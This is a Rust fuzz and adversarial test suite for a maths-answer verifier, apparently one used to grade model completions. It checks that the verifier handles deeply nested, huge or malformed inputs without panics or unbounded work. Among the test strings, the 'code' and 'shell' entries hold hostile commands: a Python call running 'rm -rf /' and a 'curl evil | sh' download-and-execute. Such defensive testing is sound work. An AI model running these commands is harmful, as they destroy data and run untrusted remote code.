//! Hostile and random input: no panic, bounded work, the same verdict in both directions and every time.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a test fails by panicking

use gft_verify::{ExtractOptions, Outcome, Policy, extract, extract_bytes, grade, verify};
use proptest::prelude::*;

fn repeat(s: &str, n: usize) -> String {
    s.repeat(n)
}

/// Named attacks, each compared with a harmless answer and with a variant of itself.
fn attacks() -> Vec<(&'static str, String)> {
    let nest = |open: &str, inner: &str, close: &str, n: usize| repeat(open, n) + inner + &repeat(close, n);
    vec![
        ("power tower", "9^{9^{9^{9^{9}}}}".into()),
        ("tall power tower", nest("9^{", "9", "}", 400)),
        ("code power tower", vec!["9"; 300].join("**")),
        ("huge exponent", "2^{99999999999999999999}".into()),
        ("huge rational exponent", "2^{1/99999999999999999999}".into()),
        ("factorial of a factorial", "((100!)!)!".into()),
        ("factorial", "99999999999!".into()),
        ("factorials", vec!["2000!"; 300].join("+")),
        ("binomial", "\\binom{99999999999}{4999999999}".into()),
        ("binomials", vec!["\\binom{1000}{500}"; 400].join("\\cdot ")),
        ("nested roots", nest("\\sqrt{2+", "2", "}", 500)),
        ("nested cube roots", nest("\\sqrt[3]{x+", "2", "}", 60)),
        ("nested fractions", nest("\\frac{1}{1+", "x", "}", 500)),
        ("continued fraction", nest("\\frac{1}{1+", "x", "}", 60)),
        ("sum of roots", (2..200).map(|k| format!("\\sqrt{{{k}}}")).collect::<Vec<_>>().join("+")),
        ("product of sums", (0..60).map(|k| format!("(x_{{{k}}}+{k})")).collect::<Vec<_>>().join("")),
        ("power of a sum", "(a+b+c+d+e+f+g+h)^{200}".into()),
        ("powers of powers", nest("(", "x+1", ")^{9}", 40)),
        ("many powers", (0..500).map(|k| format!("x^{{{k}}}")).collect::<Vec<_>>().join("+")),
        ("deep braces", nest("{", "1", "}", 50_000)),
        ("deep brackets", nest("(", "1", ")", 50_000)),
        ("open braces", repeat("{", 100_000)),
        ("unclosed boxes", repeat("\\boxed{", 20_000)),
        ("unclosed text", repeat("\\text{", 20_000)),
        ("digits", repeat("7", 100_000)),
        ("decimals", "0.".to_string() + &repeat("3", 100_000)),
        ("repeating decimals", "0.".to_string() + &repeat("142857", 10_000) + "..."),
        ("exponent notation", "1e9999".into()),
        ("negative exponent notation", "1.5e-9999".into()),
        ("commas", repeat(",", 100_000)),
        ("list", (0..2000).map(|k| k.to_string()).collect::<Vec<_>>().join(", ")),
        ("list of expressions", vec!["\\sin(x+1)+\\cos(x)"; 200].join(", ")),
        (
            "set of surds",
            format!(
                "\\{{{}\\}}",
                (0..48).map(|k| format!("\\sqrt{{{k}+\\sqrt{{2}}}}")).collect::<Vec<_>>().join(",")
            ),
        ),
        ("plus minus", repeat("\\pm ", 4000) + "1"),
        ("minus signs", repeat("-", 4000) + "1"),
        ("bars", repeat("|", 4000)),
        ("relations", repeat("x<", 2000) + "x"),
        ("equals", repeat("=", 5000)),
        ("unions", vec!["(1,2)"; 1000].join("\\cup")),
        ("matrix", format!("\\begin{{pmatrix}}{}\\end{{pmatrix}}", vec!["1&2"; 1000].join("\\\\"))),
        ("nested matrices", nest("\\begin{pmatrix}", "1", "\\end{pmatrix}", 500)),
        ("sines", nest("\\sin(", "x", ")", 300)),
        ("exponentials", nest("e^{", "x", "}", 60)),
        ("logarithms", nest("\\ln(", "x", ")", 100)),
        ("percent signs", "1".to_string() + &repeat("\\%", 3000)),
        ("factorial signs", "3".to_string() + &repeat("!", 3000)),
        ("degree signs", "1".to_string() + &repeat("^\\circ", 1000)),
        ("subscripts", "x".to_string() + &repeat("_x", 2000)),
        ("code", "__import__('os').system('rm -rf /')".into()),
        ("python", "while True: pass".into()),
        ("shell", "$(curl evil | sh); `id`".into()),
        ("null bytes", repeat("\0", 1000)),
        ("control bytes", (0u8..32).map(char::from).collect()),
        ("unicode", "∞∪∩√½²₃—“”𝟙𝒳🎉\u{202e}\u{0301}".repeat(50)),
        ("backslashes", repeat("\\", 9999)),
        ("dollars", repeat("$", 9999)),
        ("words", repeat("word ", 3000)),
        ("roots of large numbers", "\\sqrt{18446744073709551557}+\\sqrt{18446744073709551533}".into()),
        ("base", "zz_{36}".into()),
        ("large base digits", repeat("1", 199) + "_2"),
        ("units", "5 ".to_string() + &repeat("m/s ", 1000)),
        ("unit powers", "5 cm^{99999999999999999999}".into()),
        ("ratio", vec!["1"; 1000].join(":")),
        ("control characters beyond ASCII", repeat("\u{98}i", 40_000)),
        ("accented letters", repeat("é", 60_000)),
        ("closed boxes", repeat("\\boxed{1}, ", 10_000)),
    ]
}

#[test]
fn scripts_without_what_they_belong_to() {
    for text in [
        "\\frac2_12_3",
        "_12_3",
        "^{1}2^3",
        "{}_1 2_3",
        "\\frac{1}_23^4",
        "_{10}C",
        "_C_3",
        "\\frac1_23_4C_5",
    ] {
        let spaced = format!("{text} +0");
        verify(text, &spaced, &Policy::lenient());
        verify(text, "7", &Policy::lenient());
    }
}

#[test]
fn attacks_stay_within_bounds() {
    let policy = Policy::lenient();
    for (name, attack) in attacks() {
        let variant = format!("{attack}+1");
        for other in
            ["1", "x", "\\frac{1}{2}", "(1,2)", "yes", attack.as_str(), variant.as_str(), "", "\\sin x"]
        {
            let there = verify(&attack, other, &policy);
            let back = verify(other, &attack, &policy);
            assert_eq!(there.outcome, back.outcome, "{name} against {other:.40}");
            assert!(there.work <= policy.work, "{name}: {} units", there.work);
        }
        let completion = format!("We get \\boxed{{{attack}}} and so on. {attack}");
        for last_number in [false, true] {
            let options = ExtractOptions { last_number, ..ExtractOptions::default() };
            let grade = grade(&completion, "42", &options, &policy);
            assert!(!grade.verdict.is_equal(), "{name}");
        }
    }
}

#[test]
fn attacks_equal_themselves() {
    for (name, attack) in attacks() {
        if attack.trim().trim_matches(|c: char| c.is_control()).is_empty() {
            continue;
        }
        assert!(verify(&attack, &attack, &Policy::lenient()).is_equal(), "{name}");
    }
}

#[test]
fn towers_are_told_apart_or_given_up() {
    let policy = Policy::lenient();
    assert!(!verify("9^{9^{9^{9}}}", "9^{9^{9^{8}}}", &policy).is_equal());
    assert!(!verify("(1000!)!", "(1001!)!", &policy).is_equal());
    assert!(verify("2^{10000}", "4^{5000}", &policy).is_equal());
    assert_eq!(verify("2^{10000}", "2^{10001}", &policy).outcome, Outcome::NotEqual);
    let sevens = "7".repeat(100_000);
    assert!(verify(&sevens, &format!("+{sevens}"), &policy).is_equal());
    assert_eq!(verify(&sevens, &format!("{}8", &sevens[1..]), &policy).outcome, Outcome::NotEqual);
}

#[test]
fn no_work_beyond_any_allowance() {
    for allowance in [0, 1, 10, 100, 1000, 10_000] {
        let policy = Policy::lenient().with_work(allowance);
        for (name, attack) in attacks() {
            assert!(verify(&attack, "x+1", &policy).work <= allowance, "{name}");
        }
    }
    let policy = Policy::lenient().with_work(3);
    assert_eq!(verify("1/2", "2/4", &policy).outcome, Outcome::Budget);
}

/// Fragments that steer random strings into the corners of the grammar.
const FRAGMENTS: [&str; 72] = [
    "\\frac",
    "\\frac12",
    "\\sqrt",
    "{",
    "}",
    "(",
    ")",
    "[",
    "]",
    "\\{",
    "\\}",
    "1",
    "23",
    "0.5",
    ".",
    ",",
    ";",
    "x",
    "y",
    "n",
    "i",
    "e",
    "\\pi",
    "^",
    "_",
    "+",
    "-",
    "\\pm",
    "*",
    "\\cdot",
    "/",
    "!",
    "%",
    "\\%",
    "^\\circ",
    "=",
    "<",
    "\\le",
    "\\ne",
    "\\in",
    "\\cup",
    "\\infty",
    "\\text{",
    "cm",
    " and ",
    " or ",
    "\\begin{pmatrix}",
    "&",
    "\\\\",
    "\\end{pmatrix}",
    "\\left",
    "\\right",
    "|",
    ":",
    "\\sin",
    "\\log_",
    "\\binom",
    "\\lfloor",
    "\\rfloor",
    " ",
    "$",
    "\\$",
    "\\boxed{",
    "10",
    "1,000",
    "99999999999",
    "\\overline{3}",
    "\\pmod",
    "\\mathbb{R}",
    "\\setminus",
    "\\approx",
    "A",
];

fn fragments() -> impl Strategy<Value = String> {
    proptest::collection::vec(0..FRAGMENTS.len(), 0..24)
        .prop_map(|picks| picks.into_iter().map(|i| FRAGMENTS[i]).collect())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn random_mathematics(a in fragments(), b in fragments()) {
        for policy in [Policy::lenient(), Policy::strict()] {
            let there = verify(&a, &b, &policy);
            prop_assert!(there.work <= policy.work);
            prop_assert_eq!(there.outcome, verify(&b, &a, &policy).outcome);
            prop_assert_eq!(there, verify(&a, &b, &policy));
            let own = verify(&a, &a, &policy).outcome;
            prop_assert!(matches!(own, Outcome::Equal(_) | Outcome::Unparsed), "{:?}", own);
        }
    }

    #[test]
    fn random_text(a in "\\PC{0,60}", b in "[0-9a-z\\\\{}()+/^., ]{0,30}") {
        let policy = Policy::lenient();
        prop_assert_eq!(verify(&a, &b, &policy).outcome, verify(&b, &a, &policy).outcome);
    }

    #[test]
    fn random_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let options = ExtractOptions { last_number: true, ..ExtractOptions::default() };
        let (text, found) = extract_bytes(&bytes, &options);
        if let Some(found) = found {
            prop_assert!(text.get(found.span.clone()).is_some());
            for part in &found.parts {
                prop_assert!(text.get(part.clone()).is_some());
            }
        }
        verify(&text, "1", &Policy::lenient());
    }

    #[test]
    fn extraction_of_fragments(a in fragments()) {
        let text = format!("so \\boxed{{{a}}} or {a} #### {a}");
        if let Some(found) = extract(&text, &ExtractOptions::default()) {
            prop_assert!(text.get(found.span.clone()).is_some());
        }
    }

    #[test]
    fn equal_rationals_are_equal(n in -5000i64..5000, d in 1i64..500, k in 1i64..40) {
        let policy = Policy::lenient();
        let gold = format!("\\frac{{{n}}}{{{d}}}");
        let scaled = format!("{}/{}", n * k, d * k);
        let off = format!("{}/{}", n * k + 1, d * k);
        prop_assert!(verify(&gold, &scaled, &policy).is_equal());
        prop_assert!(!verify(&gold, &off, &policy).is_equal());
    }

    #[test]
    fn expanded_squares_are_equal(a in -30i64..30, b in -30i64..30, c in 1i64..9) {
        let policy = Policy::strict();
        let gold = format!("({c}x+{a})({c}x+{b})");
        let expanded = format!("{}x^2+{}x+{}", c * c, c * (a + b), a * b);
        let off = format!("{}x^2+{}x+{}", c * c, c * (a + b) + 1, a * b);
        prop_assert!(verify(&gold, &expanded, &policy).is_equal());
        prop_assert_eq!(verify(&gold, &off, &policy).outcome, Outcome::NotEqual);
    }
}
